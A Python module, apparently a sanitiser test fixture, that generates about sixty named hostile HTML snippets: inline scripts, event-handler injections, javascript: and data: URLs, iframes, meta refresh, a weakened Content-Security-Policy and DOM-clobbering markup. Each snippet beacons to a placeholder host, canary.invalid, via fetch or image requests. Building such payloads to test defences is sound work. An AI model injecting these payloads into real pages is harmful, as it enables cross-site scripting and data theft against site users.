"""Hostile markup, each piece with a name that it leaves behind when its script runs."""

from __future__ import annotations

from html import escape
from urllib.parse import quote

ELSEWHERE = "http://canary.invalid"


def _script(name: str) -> str:
    """Says in the window that it ran, and tells another site."""
    return (
        f"try{{top.canary=(top.canary||[]).concat('{name}')}}catch(e){{}}"
        f"new Image().src='{ELSEWHERE}/ran/{name}';fetch('{ELSEWHERE}/ran/{name}')"
    )


def _document(name: str) -> str:
    return f"data:text/html,{quote(f'<script>{_script(name)}</script>')}"


def _javascript(name: str) -> str:
    return escape(f"javascript:{_script(name)}")


def _handler(name: str) -> str:
    return escape(_script(name))


_TEMPLATES = {
    "script": "<script>{script}</script>",
    "script-module": '<script type="module">{script}</script>',
    "script-elsewhere": '<script src="{elsewhere}/{name}.js"></script>',
    "script-same-scheme": '<script src="//canary.invalid/{name}.js"></script>',
    "script-data": '<script src="data:text/javascript,{quoted}"></script>',
    "script-import": '<script type="module">import "{elsewhere}/{name}.js"</script>',
    "script-nonce": '<script nonce="">{script}</script>',
    "script-svg": "<svg><script>{script}</script></svg>",
    "script-svg-href": '<svg><script href="{elsewhere}/{name}.js"></script></svg>',
    "speculation": '<script type="speculationrules">{{"prefetch":[{{"urls":["{elsewhere}/{name}"]}}]}}</script>',
    "img-error": '<img src="data:," onerror="{handler}">',
    "img-elsewhere": '<img src="{elsewhere}/{name}.png">',
    "img-srcset": '<img srcset="{elsewhere}/{name}.png 1w">',
    "svg-load": '<svg onload="{handler}"></svg>',
    "svg-image": '<svg><image href="{elsewhere}/{name}.png"/></svg>',
    "svg-use": '<svg><use href="{elsewhere}/{name}.svg#a"/></svg>',
    "svg-animate": '<svg><animate attributeName="x" dur="1ms" onbegin="{handler}"/></svg>',
    "svg-link": '<svg><a href="{javascript}"><text y="20">{name}</text></a></svg>',
    "svg-set": '<svg><a><set attributeName="href" to="{javascript}"/><text y="20">{name}</text></a></svg>',
    "details": '<details open ontoggle="{handler}"><summary>{name}</summary></details>',
    "focus": '<input autofocus onfocus="{handler}">',
    "animation": '<p style="animation:gantt 1ms" onanimationend="{handler}">{name}</p>',
    "video-error": '<video><source onerror="{handler}"></video>',
    "video-elsewhere": '<video autoplay src="{elsewhere}/{name}.mp4" poster="{elsewhere}/{name}.png"></video>',
    "audio-elsewhere": '<audio src="{elsewhere}/{name}.mp3"></audio>',
    "body-load": '<body onpageshow="{handler}">',
    "frame-javascript": '<iframe src="{javascript}"></iframe>',
    "frame-document": '<iframe srcdoc="&lt;script&gt;{handler}&lt;/script&gt;"></iframe>',
    "frame-data": '<iframe src="{document}"></iframe>',
    "frame-elsewhere": '<iframe src="{elsewhere}/{name}.html"></iframe>',
    "object-data": '<object data="{document}"></object>',
    "object-elsewhere": '<object data="{elsewhere}/{name}.html"></object>',
    "embed-data": '<embed src="{document}">',
    "embed-elsewhere": '<embed src="{elsewhere}/{name}.swf">',
    "refresh-javascript": '<meta http-equiv="refresh" content="0;url={javascript}">',
    "refresh-data": '<meta http-equiv="refresh" content="0;url={document}">',
    "looser-policy": '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
    "base": '<base href="{elsewhere}/">',
    "link-style": '<link rel="stylesheet" href="{elsewhere}/{name}.css">',
    "link-style-data": '<link rel="stylesheet" href="data:text/css,@import%20url({elsewhere}/{name}.css)">',
    "link-import": '<link rel="import" href="{elsewhere}/{name}.html">',
    "link-module": '<link rel="modulepreload" href="{elsewhere}/{name}.js">',
    "link-preload": '<link rel="preload" as="script" href="{elsewhere}/{name}.js">',
    "link-prefetch": '<link rel="prefetch" href="{elsewhere}/{name}.html">',
    "link-manifest": '<link rel="manifest" href="{elsewhere}/{name}.json">',
    "style-import": "<style>@import url({elsewhere}/{name}.css);</style>",
    "style-picture": "<style>h1{{background:url({elsewhere}/{name}.png)}}</style>",
    "style-font": "<style>@font-face{{font-family:f;src:url({elsewhere}/{name}.woff)}}h1{{font-family:f}}</style>",
    "style-attribute": '<p style="background:url({elsewhere}/{name}.png)">{name}</p>',
    "template": '<div><template shadowrootmode="open"><script>{script}</script></template></div>',
    "link-click": '<a href="{javascript}">{name}</a>',
    "link-click-tab": '<a target="_blank" href="{javascript}">{name}</a>',
    "link-click-entities": '<a href="java&#10;script:{handler}">{name}</a>',
    "link-click-ping": '<a href="#x" ping="{elsewhere}/{name}">{name}</a>',
    "link-click-handler": '<a href="#x" onclick="{handler}">{name}</a>',
    "form-javascript": '<form action="{javascript}"><button>{name}</button></form>',
    "form-elsewhere": '<form action="{elsewhere}/{name}"><button>{name}</button></form>',
    "button-javascript": '<form><button formaction="{javascript}">{name}</button></form>',
    "button-elsewhere": '<form method="post"><button formaction="{elsewhere}/{name}">{name}</button></form>',
    "input-image": '<input type="image" src="{elsewhere}/{name}.png">',
    "clobber-globals": '<a id="PortalSearch"></a><img name="currentScript"><form name="head"></form>',
    "clobber-engine": '<form data-search data-engine="{elsewhere}/{name}.js" data-manifest=""></form>',
}

PAYLOADS = {
    name: template.format(
        name=name,
        elsewhere=ELSEWHERE,
        script=_script(name),
        quoted=quote(_script(name)),
        handler=_handler(name),
        javascript=_javascript(name),
        document=_document(name),
    )
    for name, template in _TEMPLATES.items()
}
"""HTML by name."""

SCRIPT = _script("elsewhere")
"""What the other site answers when it is asked for a script."""
